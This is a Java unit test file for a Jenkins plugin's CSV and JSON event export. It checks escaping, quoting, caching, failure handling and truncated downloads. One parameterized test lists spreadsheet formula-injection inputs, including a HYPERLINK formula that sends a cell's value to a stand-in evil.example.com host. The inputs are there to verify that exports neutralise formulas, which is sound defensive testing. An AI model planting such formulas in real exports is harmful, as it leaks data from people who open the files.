package io.jenkins.plugins.eventschedules.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.jenkins.plugins.eventschedules.event.Event;
import io.jenkins.plugins.eventschedules.event.Events;
import io.jenkins.plugins.eventschedules.lifecycle.port.Changes;
import io.jenkins.plugins.eventschedules.lifecycle.port.EventPage;
import io.jenkins.plugins.eventschedules.lifecycle.port.EventQuery;
import io.jenkins.plugins.eventschedules.lifecycle.port.EventStore;
import io.jenkins.plugins.eventschedules.lifecycle.port.ForwardingEventStore;
import io.jenkins.plugins.eventschedules.lifecycle.port.StoreException;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Events as files. */
class ExportTest {

    private static final String CSV = "/environments/sandbox/events.csv";
    private static final String JSON = "/environments/sandbox/events.json";

    @RegisterExtension
    final Api api = new Api();

    @Test
    void aTableHasOneLineForEachEventThatTheFiltersLeave() {
        api.sandbox.scheduled("alice", "Sale", World.NOW.plusSeconds(90_000));
        api.sandbox.scheduled("bob", "Cup final", World.NOW.plusSeconds(80_000));

        Api.Answer answer = api.get(CSV + "?owner=alice&sort=-start").expect(200);

        assertThat(answer.header("Content-Type")).isEqualTo("text/csv;charset=utf-8");
        assertThat(answer.header("Content-Disposition")).isEqualTo("attachment; filename=\"events-sandbox.csv\"");
        String[] lines = answer.body().asText().split("\r\n", -1);
        assertThat(lines).hasSize(3);
        assertThat(lines[0]).startsWith("\uFEFFid,name,status,owner,folder,series,start,end,zone,localStart,localEnd,");
        assertThat(lines[1])
                .contains(",Sale,scheduled,alice,,,2026-11-24T13:00:00Z,2026-11-24T18:00:00Z,Europe/Paris,")
                .contains(",2026-11-24 14:00,2026-11-24 19:00,PT20M,")
                .contains("\"{\"\"Service\"\":\"\"web\"\",");
        assertThat(lines[2]).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                " =1",
                "\uFEFF=1",
                "\uFF1D1",
                "=HYPERLINK(\"https://evil.example.com/?\"&A1,\"Click\")"
            })
    void nothingThatPeopleTypeIsTakenForAFormula(String name) {
        api.sandbox.scheduled("alice", "x", World.NOW.plusSeconds(90_000));
        note(name);

        String line = api.get(CSV).expect(200).body().asText().split("\r\n")[1];

        assertThat(line).containsPattern(",\"?'[ \uFEFF]?[=+\\-@\uFF1D]");
    }

    private void note(String notes) {
        Event event = api.sandbox.store.list(EventQuery.all()).events().get(0);
        api.ask("PATCH", Api.at(event))
                .as("alice")
                .body(
                        "application/json",
                        Api.JSON
                                .createObjectNode()
                                .put("revision", 1)
                                .put("notes", notes)
                                .toString()
                                .getBytes(StandardCharsets.UTF_8))
                .send()
                .expect(200);
    }

    @Test
    void quotesCommasAndLinesStayInTheirCell() {
        api.sandbox.scheduled("alice", "x", World.NOW.plusSeconds(90_000));
        note("Say \"hello\", twice;\nand\r\nagain");

        assertThat(api.get(CSV).expect(200).body().asText()).contains(",\"Say \"\"hello\"\", twice;\nand\r\nagain\",");
    }

    @Test
    void oneFileHoldsWhatManyPagesWouldEachOnce() {
        for (int i = 0; i < 1_201; i++) {
            api.sandbox.scheduled("alice", "Event " + i, World.NOW.plusSeconds(90_000 + i % 7));
        }

        JsonNode events = api.get(JSON + "?sort=name").expect(200).body().path("events");

        assertThat(events.findValuesAsText("id")).hasSize(1_201).doesNotHaveDuplicates();
        assertThat(events.get(0).path("name").asText()).isEqualTo("Event 0");
        assertThat(api.get(CSV).expect(200).body().asText().split("\r\n")).hasSize(1_202);
    }

    @Test
    void aZoneThatIsNotKnownHereIsToldBesideTheOneInWhichTimesAreShown() {
        Event event = Events.anEvent().ofUnknownZone("Mars/Base").scheduled();
        api.sandbox.store.create(Changes.beginning(event), Optional.empty());

        String[] lines = api.get(CSV).expect(200).body().asText().split("\r\n");

        assertThat(lines[0]).contains(",zone,").endsWith(",unknownZone");
        assertThat(lines[1]).contains(",UTC,").endsWith(",Mars/Base");
    }

    @Test
    void noEventsAreAnEmptyFile() {
        assertThat(api.get(JSON).expect(200).body().toString()).isEqualTo("{\"events\":[]}");
        assertThat(api.get(CSV).expect(200).body().asText().split("\r\n")).hasSize(1);
    }

    @Test
    void aFileThatHasNotChangedIsNotWrittenAgain() {
        api.sandbox.scheduled("alice");
        String tag = api.get(CSV).expect(200).header("ETag");

        api.ask("GET", CSV).as("alice").header("If-None-Match", tag).send().expect(304);
        api.sandbox.scheduled("alice");
        api.ask("GET", CSV).as("alice").header("If-None-Match", tag).send().expect(200);
    }

    @Test
    void theHeadOfAFileTellsItsTypeAndNothingIsRead() {
        AtomicInteger reads = new AtomicInteger();
        api.sandbox = new World("sandbox", api.clock, store -> new FailingAfter(store, reads, Integer.MAX_VALUE));
        api.restart();

        Api.Answer answer = api.ask("HEAD", CSV).as("alice").send().expect(200);

        assertThat(answer.body()).isNull();
        assertThat(answer.header("Content-Type")).isEqualTo("text/csv;charset=utf-8");
        assertThat(reads.get()).isLessThanOrEqualTo(1);
    }

    @Test
    void aStoreThatFailsAtOnceIsToldAsAProblem() {
        api.sandbox = new World("sandbox", api.clock, store -> new FailingAfter(store, new AtomicInteger(), 0));
        api.restart();

        api.get(CSV).expect(503, "unavailable");
    }

    @ParameterizedTest
    @ValueSource(strings = {CSV, JSON})
    void aFileThatBreaksOffDoesNotEndInOrder(String path) {
        // The chunk without bytes that ends an answer (RFC 9112, section 7.1) never comes.
        assertThat(brokenOff(path, "keep-alive")).doesNotEndWith("0\r\n\r\n");
    }

    /** Here the end of the connection is the end of the file, so the file has to tell. */
    @Test
    void aFileThatBreaksOffTellsSoWhereItsEndIsThatOfTheConnection() {
        String table = brokenOff(CSV, "close");

        assertThat(table)
                .contains(",Event 0,")
                .endsWith("\r\nNOT COMPLETE: this export broke off here. Ask for it again.\r\n");
        assertThat(brokenOff(JSON, "close").stripTrailing())
                .contains("\"Event 0\"")
                .doesNotEndWith("\n]}");
    }

    private String brokenOff(String path, String connection) {
        api.sandbox = new World("sandbox", api.clock, store -> new FailingAfter(store, new AtomicInteger(), 1));
        api.restart();
        for (int i = 0; i < 501; i++) {
            api.sandbox.scheduled("alice", "Event " + i, World.NOW.plusSeconds(90_000));
        }
        try (Raw raw = new Raw(api)) {
            String head = "GET " + api.uri("/api/v1" + path).getPath() + " HTTP/1.1\r\nHost: localhost\r\n";
            return raw.send(head + Users.HEADER + ": alice\r\nConnection: " + connection + "\r\n\r\n");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"?limit=5", "?cursor=x", "?status=nope", "?sort=folder"})
    void aFileHasNoPages(String query) {
        api.get(CSV + query).expect(400, "bad-query");
        api.get(JSON + query).expect(400, "bad-query");
    }

    private static final class FailingAfter extends ForwardingEventStore {
        private final AtomicInteger reads;
        private final int good;

        FailingAfter(EventStore store, AtomicInteger reads, int good) {
            super(store);
            this.reads = reads;
            this.good = good;
        }

        @Override
        public EventPage list(EventQuery query) {
            if (reads.incrementAndGet() > good) {
                throw new StoreException("The disk is gone.", null);
            }
            return super.list(query);
        }
    }
}
